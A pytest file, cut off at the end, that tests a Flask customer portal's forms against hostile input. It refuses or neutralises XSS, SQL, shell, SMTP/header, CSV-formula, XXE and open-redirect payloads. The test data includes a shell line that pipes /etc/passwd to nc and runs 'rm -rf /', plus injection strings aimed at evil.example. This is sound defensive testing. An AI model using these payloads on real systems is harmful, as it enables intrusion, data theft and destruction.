"""What nobody types by accident, in every field: refused with a sentence, or kept and shown as what it is.

security.md section 7, as far as these forms go. A value is never a fault of ours, and both databases give one answer.
"""

import http.client
import io
import re
import socket
from collections import Counter
from collections.abc import Iterable
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import html5lib
import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.routing import Rule
from werkzeug.test import TestResponse

from portal import db
from portal.customers.models import Customer
from portal.journal.models import Entry
from portal.links import new_secret
from portal.mail.models import Letter, LetterState
from portal.pages.uploads import BODY_BYTES, FIELD_BYTES
from portal.promises.models import Promise
from tests.conftest import PASSWORD
from tests.map.conftest import FORMS, FRESH, HELD, OF_STAFF, Filled, House, csrf_of, path_of
from tests.pages.staff_desk import document, errors
from tests.support.dump import changes
from tests.support.files import post
from tests.support.processes import Web

C0_AND_C1 = "".join(map(chr, [*range(9), *range(14, 32), 127, *range(128, 133), *range(134, 160)]))
DIRECTIONS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"
SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
TEXTS: dict[str, tuple[str, str]] = {
    name: value if isinstance(value, tuple) else (value, value)
    for name, value in {
        "script": SCRIPT,
        "attribute": '" onmouseover="alert(1)" x="\' autofocus onfocus=alert(1) `',
        "addresses": "javascript:alert(1) data:text/html;base64,PHNjcmlwdD4= vbscript:x https://evil.example/?a=1&b=2",
        "markup": "</textarea></title></style><!--><svg/onload=alert(1)><![CDATA[x]]><?php echo 1 ?>&lt;b&gt;&#x3C;",
        "templates": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> %(x)s %s %d {0.__class__.__mro__} {} $(id) `id`",
        "header": ("eins\r\nBcc: victim@x.example\r\n\r\nzwei", "eins\nBcc: victim@x.example\n\nzwei"),
        "smtp": ("eins\r\n.\r\nMAIL FROM:<a@b.example>\r\nzwei", "eins\n.\nMAIL FROM:<a@b.example>\nzwei"),
        "sql": "' OR 1=1 --; DROP TABLE \"case\"; \\'; SELECT pg_sleep(9) % _ \\ \\\\ \x60",
        "shell": "; cat /etc/passwd | nc x 1 && rm -rf / > /dev/null $IFS ../../../../etc/passwd %2e%2e%2f",
        "json": '{"$gt": ""} [object Object] null undefined NaN Infinity true 1e309 -1 0x0 1,000.00',
        "controls": (f"a{C0_AND_C1}b", "ab"),
        "nul": ("a\x00b", "ab"),
        "escape": ("a\x1b[31mrot\x1b[0m\x07b", "a[31mrot[0mb"),
        "breaks": ("a\rb\x0bc\x0cd\x85e\u2028f\u2029g", "a\nb\nc\nd\ne\nf\ng"),
        "directions": (f"a{DIRECTIONS}b\u202egnp.exe", "abgnp.exe"),
        "composed": ("Kru\u0308ger a\u030a \u1112\u1161\u11ab", "Krüger å 한"),
        "joined": "👩\u200d🔧 👨\u200d👩\u200d👧 🏳\ufe0f\u200d🌈 ☎\ufe0f 🇩🇪",
        "astral": "𝕯𝖚𝖗𝖈𝖍𝖜𝖆𝖍𝖑 𐍈 𠜎 \U0010fffd \ue000 \ufffe \uffff",
        "stacked": "Z\u0335\u0321\u0353a\u0334\u0320l\u0338\u0324g\u0337\u032bo\u0336\u0349",
        "invisible": "a\u00adb\u200bc\u2060d\u3000e\u00a0f\u2800g",
        "right to left": "مرحبا بالعالم שלום עולם",
        "wide": "田中さんにあげて下さい 部落格 사회과학원 ｆｕｌｌ",
        "turkish": "İıŞşĞğ ß ẞ ŉ ǰ ΐ ﬁ Ω Å",
        "numbers": "١٢٣ ² ½ ⅷ ➀ 1٬000٫5",
        "encoded word": "=?utf-8?q?Subject:_x?= =?utf-8?b?PHNjcmlwdD4=?=",
        "csv": "=1+1 +1 -1 @SUM(A1) \t=cmd|' /C calc'!A0",
        "formats": "%n%n%n%x%x %00 %0a %u0000 \\u0000 \\x00 \\n \\0",
        "long word": "x" * 4990,
        "many lines": ("x" + "\r\n" * 4900 + "x", "x" + "\n" * 4900 + "x"),
    }.items()
}
"""What is typed into a text, and what is kept of it."""
CANARY = "C4nary"
CANARIES = {"company": f"{CANARY} GmbH", "customer_number": CANARY, "postcode": CANARY, "phone": "0171 3920042"}
"""In every field but the name and the address."""
SHORT = ("script", "templates", "header", "sql", "controls", "directions", "composed", "astral")

LINES: dict[str, tuple[str, str | None]] = {
    "script": (SCRIPT, SCRIPT),
    "templates": ("{{7*7}} ${7*7} %(x)s {0.__class__}", "{{7*7}} ${7*7} %(x)s {0.__class__}"),
    "sql": ("' OR 1=1 --; DROP TABLE x \\' % _", "' OR 1=1 --; DROP TABLE x \\' % _"),
    "header": ("Max\r\nBcc: victim", None),
    "line feed": ("Max\nMuster", None),
    "return": ("Max\rMuster", None),
    "nul": ("Max\x00Muster", None),
    "escape": ("Max\x1b[31m", None),
    "delete": ("Max\x7f", None),
    "next line": ("Max\x85Muster", None),
    "separator": ("Max\u2028Muster", None),
    "paragraph": ("Max\u2029Muster", None),
    "directions": ("Max\u202eretsuM\u2066\u200f", "MaxretsuM"),
    "composed": ("Kru\u0308ger", "Krüger"),
    "spaces": (" \t Max \u00a0  Muster ", "Max Muster"),
    "astral": ("𝕯𝖗 𠜎", "𝕯𝖗 𠜎"),
}
"""What is typed into a line, and what is kept of it; None where it is refused."""
ROOM = {"name": 60, "company": 120, "customer_number": 40, "postcode": 12}

ADDRESSES = [
    "a@x.example,b@y.example",
    "a@x.example b@y.example",
    "a@x.example;b@y.example",
    "<a@x.example>",
    "Max <a@x.example>",
    '"a b"@x.example',
    "a@[127.0.0.1]",
    "a@localhost",
    "a@",
    "@x.example",
    "a@@x.example",
    "a@x..example",
    "a@.example",
    "a..b@x.example",
    ".a@x.example",
    "-rf@x.example",
    "a" * 65 + "@x.example",
    "a@" + "x" * 250 + ".example",
    "a@x.example\r\nBcc: victim@y.example",
    "a@x.example\nBcc:victim@y.example",
    "a\x00@x.example",
    "a@x.exam\x00ple",
    "ü@x.example",
    "a\u2028@x.example",
    "a(comment)@x.example",
    "a%b@x.example@y.example",
    "a@xn--a.example",
    "a@x.example'--",
    SCRIPT,
    "{{7*7}}",
    "x" * 5001,
]

HEADERS = {
    "From", "To", "Reply-To", "Subject", "Date", "Message-ID", "Content-Language", "X-Portal-Letter", "X-Portal-Case",
    "In-Reply-To", "References", "MIME-Version", "Content-Type",
}  # fmt: skip
AUTOMATIC = {"Auto-Submitted", "X-Auto-Response-Suppress"}

FORM = "application/x-www-form-urlencoded"

pytestmark = pytest.mark.usefixtures("tuesday")


class Sender:
    """Fills forms in and sends them, each with a key of its own."""

    def __init__(self, house: House) -> None:
        self.house = house
        self.visitor = house.visitor()
        self._colleague: FlaskClient | None = None
        self._csrf = ""

    def send(self, endpoint: str, **changes: str) -> TestResponse:
        """The form with some of its own fields changed."""
        client, form = self.filled(endpoint, **changes)
        return client.post(form.path, data=form.data)

    def filled(self, endpoint: str, **changes: str) -> tuple[FlaskClient, Filled]:
        """Who sends the form, and the form."""
        if endpoint == "contact.send":
            changes = {**changes, "csrf_token": self.house.ticket(key=new_secret())}
            form = self.house.filled(endpoint)
            return self.visitor, Filled(form.path, {**form.data, **changes})
        changes = {"key": new_secret(), **changes}
        if endpoint not in OF_STAFF:
            return self.visitor, self.house.filled(endpoint, **changes)
        if self._colleague is None:
            self._colleague = self.house.colleague()
            self._csrf = csrf_of(self._colleague)
        return self._colleague, self.house.filled(endpoint, csrf=self._csrf, **changes)


@pytest.fixture
def sender(house: House) -> Sender:
    return Sender(house)


def last_text(house: House) -> str:
    """What somebody wrote last, as the journal keeps it."""
    with house.app.app_context(), db.reading() as session:
        return session.scalars(select(Entry.text).where(Entry.text != "").order_by(Entry.id.desc()).limit(1)).one()


def last_customer(house: House) -> Customer:
    with house.app.app_context(), db.reading() as session:
        return session.scalars(select(Customer).order_by(Customer.id.desc()).limit(1)).one()


def last_promise(house: House) -> Promise:
    with house.app.app_context(), db.reading() as session:
        return session.scalars(select(Promise).order_by(Promise.id.desc()).limit(1)).one()


def letters(house: House) -> list[EmailMessage]:
    """All letters that were queued since the demo was loaded."""
    with house.app.app_context(), db.reading() as session:
        new = Letter.state != LetterState.SENT, Letter.case_id != house.case(HELD).id
        rows = session.scalars(select(Letter.message).where(*new).order_by(Letter.id)).all()
    return [message_from_bytes(row, policy=policy.default) for row in rows]


def words_of(letter: EmailMessage) -> str:
    """Everything a letter says: headers, text and HTML."""
    parts = [letter.get_body((kind,)) for kind in ("plain", "html")]
    return "\n".join([*map(str, letter.values()), *(part.get_content() for part in parts if part is not None)])


def skeleton(html: str) -> Counter[tuple[str, ...]]:
    """Every element of a page with the names of its attributes: what text must never change."""
    return Counter((str(part.tag), *sorted(part.attrib)) for part in document(html).iter())


def told(answer: TestResponse) -> bool:
    """Whether a refusal says in a sentence what to do."""
    return bool(errors(answer.text)) or any(one in answer.text for one in ('class="summary"', 'role="alert"'))


# Texts


@pytest.mark.parametrize("endpoint", ["contact.send", "status.message"])
def test_any_text_of_a_customer_is_kept_as_it_was_typed_and_stands_in_no_letter(
    house: House, sender: Sender, endpoint: str
) -> None:
    kept = {}
    for name, (typed, _) in TEXTS.items():
        assert (name, sender.send(endpoint, message=f"{CANARY}{typed}", **CANARIES).status_code) == (name, 303)
        kept[name] = last_text(house)

    written = letters(house)
    assert kept == {name: f"{CANARY}{expected}".strip() for name, (_, expected) in TEXTS.items()}
    assert len(written) >= len(TEXTS)
    assert [wrong for letter in written if (wrong := wrong_headers(letter))] == []
    assert [letter["Subject"] for letter in written if CANARY in words_of(letter)] == []
    assert [letter["Subject"] for letter in written if "3920042" in re.sub(r"\s", "", words_of(letter))] == []


@pytest.mark.parametrize("endpoint", ["staff.reply", "staff.ask", "staff.note", "staff.mail", "staff.contact"])
def test_any_text_of_a_colleague_is_kept_as_it_was_typed(house: House, sender: Sender, endpoint: str) -> None:
    kept = {}
    for name in SHORT:
        assert (name, sender.send(endpoint, text=TEXTS[name][0]).status_code) == (name, 303)
        kept[name] = last_text(house)

    assert kept == {name: TEXTS[name][1] for name in SHORT}


@pytest.mark.parametrize("name", SHORT)
def test_the_words_of_closing_and_reopening_are_kept_as_they_were_typed(
    house: House, sender: Sender, name: str
) -> None:
    typed, expected = TEXTS[name]
    said = []
    for endpoint, field in (("staff.reopen", "text"), ("staff.close", "text"), ("status.reopen", "message")):
        assert sender.send(endpoint, **{field: typed}).status_code == 303
        said.append(last_text(house))

    assert said == [expected] * 3


@pytest.mark.parametrize("name", SHORT)
def test_what_is_promised_is_kept_as_it_was_typed(house: House, sender: Sender, name: str) -> None:
    typed, expected = TEXTS[name]

    assert sender.send("staff.promise", what=typed).status_code == 303
    assert last_promise(house).what == expected


@pytest.mark.parametrize(
    ("endpoint", "field", "most"),
    [
        ("contact.send", "message", 5000),
        ("status.message", "message", 5000),
        ("status.reopen", "message", 5000),
        ("staff.reply", "text", 10_000),
        ("staff.ask", "text", 10_000),
        ("staff.note", "text", 10_000),
        ("staff.close", "text", 10_000),
        ("staff.reopen", "text", 10_000),
        ("staff.mail", "text", 10_000),
        ("staff.contact", "text", 10_000),
        ("staff.promise", "what", 200),
    ],
)
def test_one_character_too_many_is_refused_and_the_last_one_is_not(
    house: House, sender: Sender, endpoint: str, field: str, most: int
) -> None:
    before = house.dump()

    too_long = sender.send(endpoint, **{field: "ä" * most + "!"})
    refused = changes(before, house.dump())
    long = sender.send(endpoint, **{field: "ä" * most})

    assert (too_long.status_code, told(too_long), long.status_code) == (422, True, 303)
    assert [line for line in refused if "sign_in:" not in line] == []


@pytest.mark.parametrize("body", ["%ED%A0%80", "%ED%BF%BF", "%FF%FE", "%C0%80", "%F5%80%80%80", "a%C3"])
def test_bytes_that_are_no_text_are_kept_as_they_were_sent(house: House, sender: Sender, body: str) -> None:
    client, form = sender.filled("status.message", message="MESSAGE")
    raw = urlencode(form.data).replace("MESSAGE", body)

    answer = client.post(form.path, data=raw, content_type=FORM)

    assert answer.status_code == 303
    assert last_text(house) == body


def test_half_a_character_in_a_body_of_parts_is_kept_as_the_sign_for_that(house: House, sender: Sender) -> None:
    client, form = sender.filled("status.message")
    body = b'--x\r\nContent-Disposition: form-data; name="message"\r\n\r\na\xed\xa0\x80\r\n--x--\r\n'

    answer = client.post(form.path, data=body, content_type="multipart/form-data; boundary=x")

    assert answer.status_code == 303
    assert last_text(house) == "a\ufffd\ufffd\ufffd"


# Lines and addresses


@pytest.mark.parametrize("field", ROOM)
def test_any_line_is_refused_or_kept_as_it_was_typed(house: House, sender: Sender, field: str) -> None:
    column = {"customer_number": "number_typed"}.get(field, field)
    fitting = {name: pair for name, pair in LINES.items() if len(pair[1] or "") <= ROOM[field]}
    kept: dict[str, str | None] = {}
    for name, (typed, _) in fitting.items():
        answer = sender.send("contact.send", **{field: typed})
        kept[name] = getattr(last_customer(house), column) if answer.status_code == 303 else None
        assert (name, answer.status_code, told(answer)) in ((name, 303, False), (name, 422, True))

    assert kept == {name: expected for name, (_, expected) in fitting.items()}


@pytest.mark.parametrize("field", ROOM)
def test_a_line_has_its_room_and_not_a_character_more(house: House, sender: Sender, field: str) -> None:
    fits, too_long = "ä" * ROOM[field], "ä" * ROOM[field] + "x"

    assert sender.send("contact.send", **{field: fits}).status_code == 303
    assert sender.send("contact.send", **{field: too_long}).status_code == 422


@pytest.mark.parametrize(
    "name",
    [
        "https://evil.example",
        "www.evil.example",
        "Gewinn auf evil-shop.com",
        "max@evil.example",
        "ftp://x",
        "EVIL-SHOP.COM",
    ],
)
def test_a_name_that_leads_somewhere_is_refused(house: House, sender: Sender, name: str) -> None:
    before = house.dump()

    answer = sender.send("contact.send", name=name)

    assert (answer.status_code, told(answer)) == (422, True)
    assert changes(before, house.dump()) == []


@pytest.mark.parametrize("endpoint", ["contact.send", "contact.correct_address", "link.wish"])
def test_what_is_no_single_address_is_refused(house: House, sender: Sender, endpoint: str) -> None:
    before = house.dump()

    answers = {address: sender.send(endpoint, email=address) for address in ADDRESSES}

    assert {address: answer.status_code for address, answer in answers.items()} == dict.fromkeys(ADDRESSES, 422)
    assert [address for address, answer in answers.items() if not told(answer)] == []
    assert changes(before, house.dump()) == []


@pytest.mark.parametrize(
    "phone",
    ["' OR 1=1", SCRIPT[:40], "+49\r\n1", "089\x0099998950", "tel:+4989", "+" * 40, "9" * 40, "0900 1234567", "٠٨٩"],
)
def test_what_is_no_number_is_refused(house: House, sender: Sender, phone: str) -> None:
    answer = sender.send("contact.send", phone=phone)

    assert (answer.status_code, told(answer)) == (422, True)


# Choices, dates and hidden fields


HOSTILE_CHOICES = ["", "x", "-1", "1e309", "5; drop", "²", "9" * 25, "9" * 5000, "done\x00", SCRIPT]
CHOICES = [
    ("contact.send", "topic", {422}),
    ("contact.send", "website", {303}),
    ("contact.send", "slot", {303, 422}),
    ("contact.send", "csrf_token", {422}),
    ("status.close", "outcome", {303, 409}),
    ("status.close", "version", {303, 409}),
    ("status.message", "key", {303}),
    ("status.reopen", "key", {303, 409}),
    ("staff.reply", "then", {422}),
    ("staff.reply", "keeps", {303, 422}),
    ("staff.reply", "version", {409}),
    ("staff.note", "key", {303, 422}),
    ("staff.call", "version", {409}),
    ("staff.close", "outcome", {422}),
    ("staff.contact", "contact", {422}),
    ("staff.contact", "at_day", {303, 422}),
    ("staff.promise", "promise", {422}),
    ("staff.promise", "day", {422}),
    ("staff.promise", "hour", {422}),
]


@pytest.mark.parametrize(("endpoint", "field", "codes"), CHOICES)
def test_a_choice_that_nobody_was_given_is_no_fault_of_ours(
    sender: Sender, endpoint: str, field: str, codes: set[int]
) -> None:
    answers = {}
    for value in HOSTILE_CHOICES:
        client, form = sender.filled(endpoint)
        named = f"{FORMS[endpoint].prefix}{field}"
        answers[value[:30]] = client.post(form.path, data={**form.data, named: value}).status_code

    assert {value: code for value, code in answers.items() if code not in codes} == {}


@pytest.mark.parametrize("endpoint", ["staff.promise", "staff.ask"])
@pytest.mark.parametrize(
    ("day", "hour"),
    [
        ("0001-01-01", "00:00"),
        ("9999-12-31", "23:59"),
        ("1970-01-01", "00:00"),
        ("2026-11-24", "09:13"),
        ("2026-11-29", "11:00"),
        ("2026-12-25", "11:00"),
        ("2027-03-28", "02:30"),
        ("2026-10-25", "02:30"),
        ("2026-02-30", "11:00"),
        ("2026-11-27", "24:00"),
        ("2026-11-27", "03:00"),
        ("2101-11-29", "11:00"),
        ("٢٠٢٦-١١-٢٧", "11:00"),
    ],
)
def test_a_date_that_cannot_be_promised_is_refused(
    house: House, sender: Sender, endpoint: str, day: str, hour: str
) -> None:
    before = house.dump()

    answer = sender.send(endpoint, day=day, hour=hour)

    assert (answer.status_code, told(answer)) == (422, True)
    assert [line for line in changes(before, house.dump()) if "sign_in:" not in line] == []


@pytest.mark.parametrize("day", ["0001-01-01", "0001-01-02", "1582-10-10", "9999-12-31", "2026-11-25"])
def test_a_contact_of_another_age_is_refused_or_kept_and_can_be_read(house: House, sender: Sender, day: str) -> None:
    answer = sender.send("staff.contact", at_day=day, at_hour="10:00")
    page = house.colleague().get(f"/staff/cases/{house.case(FRESH).reference}")

    assert answer.status_code in (303, 422)
    assert page.status_code == 200
    assert house.visitor().get(f"/s/{house.token(FRESH)}").status_code == 200


PIECES = {
    "nul": "%00",
    "nul within": "a-file-of-fresh-22-%00c",
    "nul behind": "a-file-of-fresh-22-abc%00",
    "controls": "%01%07%1B%1F%7F%C2%85",
    "breaks": "a%0D%0Ab%E2%80%A8c",
    "directions": "%E2%80%AE%E2%81%A6",
    "no text": "%FF",
    "half a character": "%ED%A0%80",
    "long": "x" * 3000,
    "quotes": "%27%20OR%201=1",
    "letter": "ß",
}
"""What nobody was ever given as a part of an address."""


def test_an_address_that_nobody_was_given_leads_nowhere_and_changes_nothing(house: House) -> None:
    """Each part of every address in turn, for files, references, links and what confirms: read and posted to."""
    colleague, before = house.colleague(), house.dump()
    csrf, codes = csrf_of(colleague), dict[str, int]()
    for method, rule, name in parts_of_addresses(house):
        samples = {other: house.parts(rule, other)[0] for other in rule.arguments}
        for title, piece in PIECES.items():
            path = path_of(rule, {**samples, name: piece})
            answer = colleague.open(path, method=method, data={"csrf_token": csrf} if method == "POST" else None)
            codes[f"{method} {rule.rule}, {name}: {title}"] = answer.status_code

    assert len(codes) > 300
    assert {what: code for what, code in codes.items() if code not in (302, 404, 409, 410)} == {}
    assert [line for line in changes(before, house.dump()) if "sign_in:" not in line] == []


def parts_of_addresses(house: House) -> list[tuple[str, Rule, str]]:
    """Every part of every address that holds some, with how it may be asked for."""
    rules = [rule for rule in house.app.url_map.iter_rules() if not rule.endpoint.startswith(("static", "mailbox."))]
    return [
        (method, rule, name)
        for rule in rules
        for method in sorted({"GET", "POST"} & (rule.methods or set()))
        for name in sorted(rule.arguments)
    ]


@pytest.mark.parametrize("field", ["attachments-held", "attachments-remove"])
@pytest.mark.parametrize("endpoint", ["contact.send", "status.message", "status.reopen"])
def test_an_id_of_a_file_that_nobody_was_given_is_no_fault_of_ours(
    house: House, sender: Sender, endpoint: str, field: str
) -> None:
    client, form = sender.filled(endpoint, message="x" * 5001)  # refused, so that the files would be held
    ids = ["\x00", "a-file-of-fresh-22-\x00c", "\x01\x1f\x7f\x85", "a\r\nb\u2028c", "\u202e", "x" * 3000, ""]
    before = house.dump()

    codes = {one: client.post(form.path, data={**form.data, field: one}).status_code for one in ids}

    assert codes == dict.fromkeys(ids, 422)
    assert [line for line in changes(before, house.dump()) if "sign_in:" not in line] == []


# What is shown


def test_hostile_words_add_nothing_to_any_page_or_letter(house: House, sender: Sender) -> None:
    typed = {"name": SCRIPT, "company": SCRIPT, "customer_number": SCRIPT[:40], "postcode": '"><b>x</b>'}
    plain = {"name": "Erika", "company": "Firma", "customer_number": "1", "postcode": "80331"}

    expected = shown(house, sender, {**plain, "email": "plain@kunde.example"}, "ein Text")
    hostile = shown(house, sender, {**typed, "email": "hostile@kunde.example"}, SCRIPT)

    assert list(hostile) == list(expected)
    assert {page: hostile[page] - expected[page] for page in expected if hostile[page] != expected[page]} == {}


def shown(house: House, sender: Sender, typed: dict[str, str], text: str) -> dict[str, Counter[tuple[str, ...]]]:
    """The skeletons of every page and letter on which these words stand."""
    thanks = sender.send("contact.send", message=text, **typed).location
    refused = sender.send("contact.send", message=text, **{**typed, "topic": "none"})
    doubtful = {**typed, "email": f"doubtful.{typed['email']}", "website": "x"}
    sender.send("contact.send", message=text, **doubtful)
    story, colleague, visitor = typed["email"], house.colleague(), house.visitor()
    case, token = house.case(story), house.token(story)
    sender.visitor.post(f"/s/{token}/message", data={"message": text})
    lost = visitor.post(f"/staff/cases/{case.reference}/note", data={"note-text": text, "csrf_token": csrf_of(visitor)})
    note = {"note-text": text, "csrf_token": csrf_of(colleague)}
    colleague.post(f"/staff/cases/{case.reference}/note", data=note)
    pages = {
        "refused": refused.text,
        "thanks": visitor.get(thanks or "").text,
        "status": visitor.get(f"/s/{token}").text,
        "close": visitor.get(f"/s/{token}/close").text,
        "signed out": lost.text,
        "case": colleague.get(f"/staff/cases/{case.reference}").text,
        "entry": colleague.get(f"/staff/doubtful/{house.case(doubtful['email']).reference}").text,
    }
    for letter in letters(house):
        if letter["X-Portal-Case"] == case.reference:
            body = letter.get_body(("html",))
            pages[f"letter {letter['X-Portal-Letter']}"] = "" if body is None else body.get_content()
    return {page: skeleton(html) for page, html in pages.items()}


def test_hostile_words_stand_on_the_page_as_they_were_typed(house: House, sender: Sender) -> None:
    words = [TEXTS[name][0] for name in ("script", "attribute", "addresses", "markup", "templates")]
    for text in words:
        sender.send("status.message", message=text)

    customer = document(house.visitor().get(f"/s/{house.token(FRESH)}").text)
    staff = document(house.colleague().get(f"/staff/cases/{house.case(FRESH).reference}").text)

    for page in (customer, staff):
        said = "".join(page.itertext())
        assert [text for text in words if text not in said] == []
        links = [part.get("href") or part.get("src") or part.get("action") or "" for part in page.iter()]
        assert [link for link in links if link.lower().startswith(("javascript:", "vbscript:", "data:text"))] == []


# Letters


@pytest.mark.parametrize("name", [name for name, (_, kept) in LINES.items() if kept is not None])
def test_a_hostile_name_stays_a_name(house: House, sender: Sender, name: str) -> None:
    typed, kept = LINES[name]

    sender.send("contact.send", name=typed, email="neu@kunde.example")

    written = letters(house)
    confirmation = next(letter for letter in written if letter["X-Portal-Letter"] == "confirmation")
    assert confirmation["To"] == "neu@kunde.example"
    assert f"Guten Tag {kept}," in " ".join(words_of(confirmation).split())
    assert [wrong for letter in written if (wrong := wrong_headers(letter))] == []
    tags = {str(part.tag) for letter in written for part in html_of(letter).iter() if isinstance(part.tag, str)}
    assert not tags & {"script", "img", "svg", "iframe", "form"}


def test_a_colleagues_words_make_no_header_either(house: House, sender: Sender) -> None:
    for name in SHORT:
        sender.send("staff.reply", text=TEXTS[name][0])
        sender.send("staff.promise", what=TEXTS[name][0])

    written = letters(house)
    assert {letter["X-Portal-Letter"] for letter in written} == {"reply", "promise_given"}
    assert [wrong for letter in written if (wrong := wrong_headers(letter))] == []


def wrong_headers(letter: EmailMessage) -> list[str]:
    """What a letter's headers lack or have too much of, by name."""
    names = Counter(letter.keys())
    by_hand = letter["X-Portal-Letter"] in ("reply", "question")
    expected = Counter(HEADERS | (set() if by_hand else AUTOMATIC))
    return [*(names - expected), *(f"no {name}" for name in expected - names)]


def html_of(letter: EmailMessage) -> Any:
    body = letter.get_body(("html",))
    assert body is not None
    return html5lib.parse(body.get_content(), namespaceHTMLElements=False)


# Bodies


def of_size(form: Filled, size: int) -> str:
    """The form with a field so long that the whole body has ``size`` bytes."""
    body = urlencode({**form.data, "padding": ""})
    return body + "x" * (size - len(body))


@pytest.mark.parametrize("endpoint", ["contact.send", "status.message", "link.wish", "staff.note", "login.sign_in"])
def test_a_body_over_its_limit_is_refused_in_every_shape(house: House, sender: Sender, endpoint: str) -> None:
    """64 kB, but where files may come along and the body is in parts."""
    client, form = sender.filled(endpoint)
    before = house.dump()
    takes_files = getattr(house.app.view_functions[endpoint], "takes_files", False)
    field_size, body_size = (2 * FIELD_BYTES, BODY_BYTES) if takes_files else (70_000, 70_000)
    field = FORMS[endpoint].prefix + next(iter(FORMS[endpoint].body))

    answers = [
        client.post(form.path, data=of_size(form, 64 * 1024 + 1), content_type=FORM),
        post(client, form.path, {**form.data, "padding": "x" * field_size}),
        client.post(form.path, data={**form.data, field: "x" * 10_000_000}),
        post(client, form.path, {**form.data, "file": FileStorage(io.BytesIO(b"x" * body_size), "a.pdf")}),
    ]

    assert [answer.status_code for answer in answers] == [413] * 4
    assert changes(before, house.dump()) == []


@pytest.mark.parametrize("endpoint", ["contact.send", "status.message", "staff.note", "login.sign_in"])
def test_a_body_whose_length_nobody_names_is_not_read(house: House, sender: Sender, endpoint: str) -> None:
    client, form = sender.filled(endpoint)
    before = house.dump()

    answers = [
        client.post(
            form.path,
            input_stream=io.BytesIO(of_size(form, size).encode()),
            content_type=FORM,
            headers={"Transfer-Encoding": "chunked"},
            environ_overrides={"wsgi.input_terminated": True},
        )
        for size in (1000, 64 * 1024 + 1, 1_000_000)
    ]

    assert [answer.status_code for answer in answers] == [411] * 3
    assert changes(before, house.dump()) == []


def test_a_body_of_just_64_kb_is_read(sender: Sender) -> None:
    client, form = sender.filled("status.message")

    assert client.post(form.path, data=of_size(form, 64 * 1024), content_type=FORM).status_code == 303


@pytest.mark.parametrize("endpoint", ["contact.send", "status.message", "staff.note"])
def test_more_than_forty_parts_are_refused(house: House, sender: Sender, endpoint: str) -> None:
    client, form = sender.filled(endpoint)
    before = house.dump()
    parts = MultiDict([*form.data.items(), *((f"part{n}", "x") for n in range(41))])

    answer = post(client, form.path, parts)

    assert answer.status_code == 413
    assert "5.000 Zeichen" not in answer.text and "weniger auf einmal" in answer.text
    assert changes(before, house.dump()) == []


NO_FORMS = [
    ("application/json", b'{"message": "x", "email": "a@b.example"}'),
    ("text/plain", b"message=x"),
    ("application/xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    ("multipart/form-data", b"no boundary at all"),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=message\r\n\r\nnever ends"),
    ("multipart/form-data; boundary=x", b"--x\r\nnonsense\r\n\r\n\r\n--x--\r\n"),
    ("application/x-www-form-urlencoded; charset=utf-7", b"+ADw-script+AD4-"),
    ("application/x-www-form-urlencoded", b"&&&===%%%;;;"),
    ("application/x-www-form-urlencoded", b"\x00\xff\xfe" * 100),
    ("", b"message=x"),
]


@pytest.mark.parametrize("endpoint", ["contact.send", "status.message", "contact.correct_address", "link.wish"])
def test_a_body_of_another_kind_is_no_form(house: House, sender: Sender, endpoint: str) -> None:
    client, form = sender.filled(endpoint)
    before = house.dump()

    codes = [client.post(form.path, data=body, content_type=kind).status_code for kind, body in NO_FORMS]

    assert set(codes) <= {400, 413, 415, 422}
    assert changes(before, house.dump()) == []


# Signing in


@pytest.mark.parametrize(
    ("email", "password"),
    [
        ("m.albrecht@beispielwerke.example", "x" * 1000),
        ("m.albrecht@beispielwerke.example", f" {PASSWORD} "),
        ("m.albrecht@beispielwerke.example", f"{PASSWORD}\x00"),
        ("m.albrecht@beispielwerke.example", "ü" * 5001),
        ("m.albrecht@beispielwerke.example\x00", PASSWORD),
        ("' OR 1=1 --", PASSWORD),
        ("%", PASSWORD),
        (SCRIPT, SCRIPT),
        ("x" * 5001, PASSWORD),
        ("m.albrecht@beispielwerke.example\r\nSet-Cookie: a=b", PASSWORD),
    ],
)
def test_a_hostile_sign_in_is_refused_like_any_wrong_one(house: House, email: str, password: str) -> None:
    answer = house.send(house.visitor(), "login.sign_in", email=email, password=password)

    assert answer.status_code == 422
    assert "sign_in:" not in house.dump()


@pytest.mark.parametrize(
    "wanted",
    [
        "https://evil.example",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/staff//evil.example",
        "/staff/@evil.example",
        "/staff/..//evil.example",
        "/staff\r\nLocation: https://evil.example",
        "/staff/\x00",
        "javascript:alert(1)",
        "/contact",
        "http:evil.example",
        "/staff/?next=https://evil.example",
        "",
    ],
)
def test_after_signing_in_nobody_is_led_elsewhere(house: House, wanted: str) -> None:
    answer = house.colleague().get("/staff/login", query_string={"next": wanted})

    assert (answer.status_code, answer.location) == (302, "/staff/")


def test_who_guesses_is_stopped_and_the_right_person_elsewhere_is_not(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        "portal.pages.staff.login.passwords.check_password", lambda _, password: password == PASSWORD
    )  # hashing a hundred guesses takes long
    browser = house.visitor()
    wrong = house.filled("login.sign_in", csrf=csrf_of(browser), password="falsch geraten")
    right = house.filled("login.sign_in", csrf=csrf_of(browser))

    guessed = [browser.post(wrong.path, data=wrong.data, environ_base=at("203.0.113.5")) for _ in range(100)]
    from_there = browser.post(right.path, data=right.data, environ_base=at("203.0.113.99"))
    from_elsewhere = browser.post(right.path, data=right.data, environ_base=at("198.51.100.7"))

    assert [answer.status_code for answer in guessed] == [422] * 10 + [429] * 90
    assert int(guessed[-1].headers["Retry-After"]) > 0
    assert (from_there.status_code, from_elsewhere.status_code) == (429, 303)


def at(address: str) -> dict[str, str]:
    return {"REMOTE_ADDR": address}


# A real server


@pytest.fixture
def web(environment: dict[str, str], tmp_path: Path) -> Iterable[Web]:
    """`durchwahl serve`, as a process."""
    with Web(environment, tmp_path / "web.log") as web:
        yield web


def test_a_real_server_refuses_hostile_bodies_and_goes_on(house: House, web: Web) -> None:
    path = f"/s/{house.token(FRESH)}/message"
    before = house.dump()
    form = b"Content-Type: application/x-www-form-urlencoded\r\n"
    long = b"message=" + b"x" * 70_000

    codes = {
